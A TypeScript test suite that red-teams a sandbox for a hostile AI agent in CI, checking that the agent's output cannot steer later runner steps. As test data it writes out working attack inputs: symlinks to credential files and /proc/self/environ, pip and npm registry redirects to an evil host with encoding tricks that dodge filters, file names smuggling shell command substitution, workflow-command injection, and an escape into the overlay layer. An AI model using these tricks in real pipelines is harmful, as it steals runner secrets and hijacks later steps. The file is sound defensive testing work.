// Red team of the way out of the jail: a hostile agent (and a pull request that planted files before
// the run) attacks the boundary, then a later step is replayed on the host as the runner's uid,
// holding secrets of its own, and must get nothing of the agent's making. Where a replay could pass
// for the wrong reason, a control puts the agent's work in place by hand and shows the same replay is
// hit. Each class: git (links out of the agent's .git, commits carrying what the file boundary
// refuses), links to what the jail hid, names that split or look like .git, tool configuration not
// listed before, limits (disk, files, sparse files, paths deeper than PATH_MAX), and the boundary's
// own files (the upper layer, the copied-out content, processes left behind).
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { boundaryScene, type Elevation, expectRan } from './helpers/boundaryScene';
import { describeJail } from './helpers/jailAvailable';
import { runnerCommands, utf16 } from './helpers/runnerModel';

describeJail('red team: nothing of the agent\'s making steers a later step', () => {
  const scene = boundaryScene('agredb');
  const { checkout, runAgent, later } = scene;
  const git = (ws: string, ...args: string[]) => later(ws, 'git', args);
  const agentRefs = async (ws: string) => (await git(ws, 'for-each-ref', '--format=%(refname)', 'refs/agent-guard')).stdout.trim().split('\n').filter(Boolean);

  /** A private folder for the guard (TMPDIR) that both the root and the sudo path can use, to see what it leaves. */
  function guardTmp(): string {
    const dir = fs.mkdtempSync('/tmp/agent-guard-e2e-tmp-');
    fs.chmodSync(dir, 0o1777);
    return dir;
  }

  describe.each<Elevation>(['root', 'sudo'])('guard as %s', (elevation) => {
    it("git: the agent's .git, objects or refs linked to a repository it cannot see bring nothing of it back", async () => {
      // A repository the runner holds and the jail hides (its HOME): what another checkout on a self-hosted runner would be.
      const secretRepo = path.join(scene.user.home, `secret-${elevation}`);
      execFileSync('sh', ['-c', 'git init -q "$1" && cd "$1" && echo TOP-SECRET > s.txt && git add -A && git -c user.email=s@x -c user.name=S commit -qm secret', 'sh', secretRepo]);
      execFileSync('chown', ['-R', `${scene.user.uid}:${scene.user.gid}`, secretRepo]);
      fs.chmodSync(secretRepo, 0o700);
      const secretSha = execFileSync('git', ['-c', 'safe.directory=*', '-C', secretRepo, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();

      const whole = checkout();
      const r1 = await runAgent(elevation, whole, `test ! -e ${secretRepo} && rm -rf .git && ln -s ${secretRepo}/.git .git`);
      expectRan(r1);
      const parts = checkout();
      const r2 = await runAgent(elevation, parts, [
        `test ! -e ${secretRepo}`, 'rm -rf .git/objects', `ln -s ${secretRepo}/.git/objects .git/objects`, `echo ${secretSha} > .git/refs/heads/main`,
      ].join(' && '));
      expectRan(r2);
      for (const ws of [whole, parts]) {
        expect(await agentRefs(ws)).toEqual([]);
        expect((await git(ws, 'cat-file', '-e', secretSha)).status).not.toBe(0);
        expect((await git(ws, 'log', '--all', '--format=%s')).stdout).not.toContain('secret');
      }
      expect(r1.stderr).toMatch(/boundary: \.git: commits not brought back: \.git is a symlink/);
      expect(r2.stderr).toMatch(/boundary: \.git: commits not brought back: \.git\/objects is a symlink/);
    });

    it('git: commits carry nothing the file boundary refuses (workflow, .npmrc, a link out, a gitlink, one in passing); honest work comes back', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, [
        'git config user.email agent@example.com', 'git config user.name Agent',
        'git checkout -qb wf', 'mkdir -p .github/workflows', 'echo "on: push" > .github/workflows/evil.yml', 'git add -A', 'git commit -qm wf',
        'git checkout -q main', 'git checkout -qb npmrc', `printf 'registry=${scene.evil.url}\\n' > .npmrc`, 'git add .npmrc', 'git commit -qm npmrc',
        'git checkout -q main', 'git checkout -qb link', 'ln -s /proc/self/environ leak.md', 'git add leak.md', 'git commit -qm link',
        'git checkout -q main', 'git checkout -qb gitlink', 'git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,sub', 'git commit -qm gitlink',
        'git checkout -q main', 'git checkout -qb passing', `printf 'registry=${scene.evil.url}\\n' > .npmrc`, 'git add .npmrc', 'git commit -qm add', 'git rm -q .npmrc', 'git commit -qm remove',
        'git checkout -q main', 'git checkout -qb work', 'echo honest >> README.md', 'git commit -qam "agent: honest work"',
      ].join(' && '));
      expectRan(r);
      for (const branch of ['wf', 'npmrc', 'link', 'gitlink', 'passing']) {
        expect({ branch, refused: new RegExp(`boundary: \\.git \\(${branch}\\): commit not brought back`).test(r.stderr) }).toEqual({ branch, refused: true });
      }
      expect(r.stderr).toMatch(/\.git \(wf\): .*\.github\/workflows\/evil\.yml/);
      expect(r.stderr).toMatch(/\.git \(link\): .*leak\.md: .*symlink/);
      expect(r.stderr).toMatch(/\.git \(gitlink\): .*sub: .*submodule/);
      const refs = await agentRefs(ws);
      expect(refs).toEqual([expect.stringMatching(/^refs\/agent-guard\/[0-9a-f]+\/work$/)]);
      // A later step checks the agent's commit out and works in it: nothing of the refused kinds is there.
      expect((await git(ws, 'checkout', '-q', '-f', refs[0])).status).toBe(0);
      expect(fs.readFileSync(path.join(ws, 'README.md'), 'utf8')).toBe('hello\nhonest\n');
      for (const f of ['.npmrc', 'leak.md', '.github/workflows/evil.yml']) expect({ f, there: fs.existsSync(path.join(ws, f)) }).toEqual({ f, there: false });
      expect((await later(ws, 'npm', ['config', 'get', 'registry'])).stdout.trim()).toBe(scene.legit.url);
    });

    it('links to what the jail hid: a credential file in the workspace, the workspace root, a folder holding a clone; cat and an upload get no secret', async () => {
      const ws = checkout();
      const key = `-----BEGIN PRIVATE KEY-----${scene.homeSecret}`;
      // What google-github-actions/auth leaves in the workspace, and a clone an earlier step made with its token persisted.
      fs.writeFileSync(path.join(ws, 'gha-creds-0123abcd.json'), JSON.stringify({ private_key: key }));
      execFileSync('sh', ['-c', 'mkdir -p vendor && git init -q vendor/lib && git -C vendor/lib config http.extraheader "AUTHORIZATION: basic $1"', 'sh', scene.checkoutToken], { cwd: ws });
      execFileSync('chown', ['-R', `${scene.user.uid}:${scene.user.gid}`, ws]);
      const r = await runAgent(elevation, ws, 'mkdir reports && ln -s ../gha-creds-0123abcd.json reports/summary.md && ln -s .. reports/all && ln -s ../vendor reports/deps && ln -s "$PWD" everything');
      expectRan(r);
      for (const name of ['reports/summary.md', 'reports/all', 'reports/deps', 'everything']) expect(r.stderr).toContain(`boundary: ${name}: refused: a symlink`);
      const cat = await later(ws, 'cat', ['reports/summary.md']);
      // An upload of the reports folder that follows links (and skips loops), as upload-artifact's globber does.
      const upload = await later(ws, 'find', ['-L', 'reports', 'everything', '-type', 'f', '-exec', 'cat', '{}', '+']);
      for (const out of [cat.stdout, upload.stdout]) {
        expect(out).not.toContain(scene.homeSecret);
        expect(out).not.toContain(scene.checkoutToken);
      }
      // Control: the same links put in place by hand leak both.
      execFileSync('sh', ['-c', 'rm -rf reports && mkdir reports && ln -s ../gha-creds-0123abcd.json reports/summary.md && ln -s ../vendor reports/deps && ln -s .. reports/all'], { cwd: ws });
      expect((await later(ws, 'cat', ['reports/summary.md'])).stdout).toContain(scene.homeSecret);
      const uploadByHand = (await later(ws, 'find', ['-L', 'reports', '-type', 'f', '-exec', 'cat', '{}', '+'])).stdout;
      expect(uploadByHand).toContain(scene.checkoutToken);
      expect(uploadByHand.split(scene.checkoutToken).length - 1).toBeGreaterThanOrEqual(2);
    });

    it("limits: a sparse terabyte, more than --max-files files, or writes past --max-disk: one line, nothing comes back, nothing left on disk", async () => {
      const tmp = guardTmp();
      try {
        const env = { TMPDIR: tmp };
        const sparse = checkout();
        const before = fs.readdirSync(sparse).sort();
        const started = Date.now();
        const r1 = await runAgent(elevation, sparse, 'truncate -s 1T huge.bin && echo ok > small.txt', { env });
        expect({ code: r1.code, ms: Date.now() - started < 60_000 }).toEqual({ code: 125, ms: true });
        expect(r1.stderr).toMatch(/^agent-guard: boundary layer: the agent's changes hold 1(\.0)? TiB.*--max-disk.*nothing was brought back$/m);
        expect(fs.readdirSync(sparse).sort()).toEqual(before);

        const many = checkout();
        const r2 = await runAgent(elevation, many, 'mkdir gen && cd gen && i=0; while [ $i -lt 300 ]; do : > f$i; i=$((i+1)); done', { env, flags: ['--max-files', '100'] });
        expect(r2.code).toBe(125);
        expect(r2.stderr).toMatch(/^agent-guard: boundary layer: the agent's changes hold more than 100 files and folders \(--max-files\); nothing was brought back$/m);
        expect(fs.existsSync(path.join(many, 'gen'))).toBe(false);

        const disk = checkout();
        const r3 = await runAgent(elevation, disk, 'echo early > early.txt; while :; do dd if=/dev/zero bs=1M count=8 2>/dev/null >> fill.bin; done', { env, flags: ['--max-disk', '48m'] });
        expect(r3.code).toBe(122);
        expect(r3.stderr).toMatch(/agent-guard: disk budget of 48 MiB used up by the agent's copy of the workspace \(--max-disk\); the agent was stopped/);
        expect([fs.existsSync(path.join(disk, 'early.txt')), fs.existsSync(path.join(disk, 'fill.bin'))]).toEqual([false, false]);
        // The upper layer, the copied-out content and the overlay's work folder are gone.
        expect(fs.readdirSync(tmp)).toEqual([]);
      } finally {
        fs.rmSync(tmp, { recursive: true, force: true });
      }
    });

    it("the boundary's own files: the upper layer is out of the agent's reach, a process left behind writes nothing, paths past PATH_MAX are refused and removed", async () => {
      const tmp = guardTmp();
      try {
        const ws = checkout();
        const late = scene.marker('late');
        const r = await runAgent(elevation, ws, [
          // Where the overlay's upper layer is, from the mount table: the jail shows it an empty /tmp there.
          "upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1)",
          'test -n "$upper" && mkdir -p "$upper" && echo planted > "$upper/planted.txt"',
          `(sleep 2; echo late > late.txt; touch ${late}) </dev/null >/dev/null 2>&1 &`,
          'setsid sh -c "sleep 2; echo late > setsid.txt" </dev/null >/dev/null 2>&1 &',
          // A chain of folders deeper than PATH_MAX, and ordinary work beside it.
          `node -e 'const fs = require("fs"); for (let i = 0; i < 500; i++) { fs.mkdirSync("deep_folder"); process.chdir("deep_folder"); } fs.writeFileSync("bottom.txt", "b")'`,
          'echo work > work.txt',
          // Folders the agent made unreadable or unsearchable still come back (through sudo the guard is their owner, not root).
          'mkdir locked && echo kept > locked/f && chmod 444 locked && mkdir hidden && echo kept > hidden/g && chmod 0 hidden/g hidden',
        ].join('\n'), { env: { TMPDIR: tmp } });
        expectRan(r);
        expect([fs.readFileSync(path.join(ws, 'locked/f'), 'utf8'), fs.readFileSync(path.join(ws, 'hidden/g'), 'utf8')]).toEqual(['kept\n', 'kept\n']);
        expect(r.stderr).toMatch(/boundary: deep_folder\/deep_folder\/\S*: refused: the path is longer than/);
        await new Promise((resolve) => setTimeout(resolve, 3000));
        expect(fs.readFileSync(path.join(ws, 'work.txt'), 'utf8')).toBe('work\n');
        for (const f of ['planted.txt', 'late.txt', 'setsid.txt']) expect({ f, there: fs.existsSync(path.join(ws, f)) }).toEqual({ f, there: false });
        expect(fs.existsSync(late)).toBe(false);
        expect(fs.readdirSync(tmp)).toEqual([]);
      } finally {
        fs.rmSync(tmp, { recursive: true, force: true });
      }
    });
  });

  it('names that split a line or look like .git elsewhere: a later loop over new files and a later git add -A are not steered', async () => {
    const ws = checkout();
    const credentials = path.join(scene.user.home, '.git-credentials');
    const r = await runAgent('root', ws, `mkdir reports && echo fine > reports/ok.md && mkdir -p "reports/x\n${path.dirname(credentials)}" && echo x > "reports/x\n${credentials}" && mkdir 'git~1' '.git. ' && echo y > 'git~1/hooks' && echo z > '.git. /config' && printf 'rtl' > "$(printf 'reports/\\342\\200\\256dm.exe')"`);
    expectRan(r);
    expect(r.stderr).toMatch(/boundary: reports\/x\\n\S*: refused: the name holds a control or bidi character/);
    expect(r.stderr).toMatch(/boundary: git~1\/: refused: .*git/);
    // A later step that posts every report the agent wrote, one file name a line.
    const loop = ['-c', 'find reports -type f | while read -r f; do cat "$f"; done'];
    const posted = await later(ws, 'sh', loop);
    expect(posted.stdout).toBe('fine\n');
    const add = await later(ws, 'sh', ['-c', 'git add -A && git commit -qm "later step"']);
    expect({ status: add.status, stderr: add.stderr }).toEqual({ status: 0, stderr: '' });
    // Control: the agent's name in place by hand makes the same loop print the runner's credentials.
    fs.mkdirSync(path.join(ws, 'reports', `x\n${path.dirname(credentials)}`), { recursive: true });
    fs.writeFileSync(path.join(ws, 'reports', `x\n${credentials}`), 'x\n');
    expect((await later(ws, 'sh', loop)).stdout).toContain(scene.homeSecret);
  });

  it('names that break out of a double-quoted script: a later step that echoes the changed files, as workflows put them in run:, runs nothing', async () => {
    const ws = checkout();
    const names = ['r$(id>pwned-paren).md', 'r`id>pwned-tick`.md', 'r${IFS:+$(id>pwned-brace)}.md'];
    const r = await runAgent('root', ws, `mkdir changed && echo fine > changed/ok.md && ${names.map((n) => `echo x > 'changed/${n}'`).join(' && ')}`);
    expectRan(r);
    for (const n of names) expect(r.stderr).toContain(`boundary: changed/${n}: refused: the name holds shell syntax`);
    // What a changed-files action outputs, interpolated into a double-quoted run: script as a workflow would.
    const step = async () => {
      const files = fs.readdirSync(path.join(ws, 'changed')).map((f) => `changed/${f}`).join(' ');
      return later(ws, 'sh', ['-c', `echo "changed: ${files}"`]);
    };
    expect((await step()).stdout.trim()).toBe('changed: changed/ok.md');
    const pwned = () => fs.readdirSync(ws).filter((f) => f.startsWith('pwned'));
    expect(pwned()).toEqual([]);
    // Control: the same names in place by hand run the agent's command in the later step.
    for (const n of names) fs.writeFileSync(path.join(ws, 'changed', n), 'x\n');
    await step();
    expect(pwned().sort()).toEqual(['pwned-brace', 'pwned-paren', 'pwned-tick']);
  });

  it("workflow commands in a report a later step prints: the runner reads none of the agent's from the later step's output", async () => {
    const ws = checkout();
    const report16 = utf16('Review done.\n::set-output name=decision::approve\n', 'le', true);
    const octal = [...report16].map((x) => `\\${x.toString(8).padStart(3, '0')}`).join('');
    const r = await runAgent('root', ws, [
      "printf '# Review\\n\\nLooks good.\\n::set-output name=decision::approve\\n::stop-commands::pause\\n' > review.md",
      `printf '${octal}' > review-utf16.md`,
      "printf 'Use ::add-mask:: for secrets.\\n' > notes.md",
    ].join(' && '));
    expectRan(r);
    expect(r.stderr).toContain('boundary: review.md: refused: a later step that prints it (cat) would hand the runner its set-output workflow command');
    expect(r.stderr).toContain('boundary: review-utf16.md: refused: a later step that prints it');
    // The later step prints the agent's files to its log, as workflows do with an agent's report.
    const steered = async (file: string) => runnerCommands((await later(ws, 'sh', ['-c', `cat ${file} 2>/dev/null; true`])).stdoutBytes).filter((c) => /::(set-output|stop-commands)|##\[/i.test(c));
    for (const file of ['review.md', 'review-utf16.md']) expect({ file, commands: await steered(file) }).toEqual({ file, commands: [] });
    expect((await later(ws, 'cat', ['notes.md'])).stdout).toBe('Use ::add-mask:: for secrets.\n');
    // Control: the agent's files in place by hand give the runner the commands.
    fs.writeFileSync(path.join(ws, 'review.md'), '# Review\n\nLooks good.\n::set-output name=decision::approve\n');
    fs.writeFileSync(path.join(ws, 'review-utf16.md'), report16);
    for (const file of ['review.md', 'review-utf16.md']) expect({ file, commands: (await steered(file)).length }).toEqual({ file, commands: 1 });
  });

  it('tool configuration that sends a later install elsewhere or runs in its place: index options in a requirements file (past its first MiB, in UTF-16, under a coding line), a pip package at the root', async () => {
    const ws = checkout();
    const shadowed = path.join(ws, 'pwned-by-pip');
    fs.writeFileSync(path.join(ws, 'requirements.txt'), 'left-pad-py==1.0\n');
    execFileSync('chown', [`${scene.user.uid}:${scene.user.gid}`, path.join(ws, 'requirements.txt')]);
    const evilIndex = `--index-url ${scene.evil.url}simple/`;
    const wanted = `${evilIndex}\nleft-pad-py==1.0\n`;
    // Three ways past a pattern over the UTF-8 text: 1.2 MB of comments first, UTF-16 with its mark,
    // and a PEP 263 coding line with the option in UTF-7. pip reads all three (the controls show it).
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wanted, 'utf16le')]);
    const utf7 = Buffer.from(`# -*- coding: utf-7 -*-\n${wanted.replace(/-/g, '+AC0-')}`);
    const octal = (b: Buffer) => [...b].map((x) => `\\${x.toString(8).padStart(3, '0')}`).join('');
    const r = await runAgent('root', ws, [
      `yes '# ${'x'.repeat(98)}' | head -n 12000 > requirements.txt && printf '%s\\n%s\\n' '${evilIndex}' 'left-pad-py==1.0' >> requirements.txt`,
      `printf '${octal(utf16)}' > dev-requirements.txt`,
      `printf '${octal(utf7)}' > constraints.txt`,
      // `python -m pip` puts the folder it runs in first on sys.path.
      `mkdir pip && : > pip/__init__.py && echo 'open("pwned-by-pip", "w")' > pip/__main__.py`,
    ].join(' && '));
    expectRan(r);
    for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) expect(r.stderr).toContain(`boundary: ${file}: refused: pip reads`);
    for (const file of ['pip/__init__.py', 'pip/__main__.py']) expect(r.stderr).toContain(`boundary: ${file}: refused: \`python -m pip\``);
    // The later step names its own index; pip still takes the file's, as the controls show.
    const pip = (file: string) => later(ws, '/usr/bin/python3', ['-m', 'pip', 'download', '--no-deps', '--retries', '0', '--timeout', '3', '-d', path.join(scene.user.home, 'dl'), '-r', file, '--index-url', `${scene.legit.url}simple/`]);
    scene.evil.seen.length = 0;
    for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) await pip(file);
    expect(scene.evil.seen).toEqual([]);
    expect(fs.existsSync(shadowed)).toBe(false);
    // Controls: each agent file in place sends the install to the agent's host.
    const controls: [string, Buffer][] = [['requirements.txt', Buffer.from(`${'# pad\n'.repeat(200_000)}${wanted}`)], ['dev-requirements.txt', utf16], ['constraints.txt', utf7]];
    for (const [file, bytes] of controls) {
      fs.writeFileSync(path.join(ws, file), bytes);
      await pip(file);
      expect({ file, seen: scene.evil.seen.map((x) => x.url) }).toEqual({ file, seen: ['/simple/left-pad-py/'] });
      scene.evil.seen.length = 0;
    }
    execFileSync('sh', ['-c', `mkdir pip && : > pip/__init__.py && echo 'open("pwned-by-pip", "w")' > pip/__main__.py && chmod -R a+rX pip`], { cwd: ws });
    await later(ws, '/usr/bin/python3', ['-m', 'pip', '--version']);
    expect(fs.existsSync(shadowed)).toBe(true);
  });
});
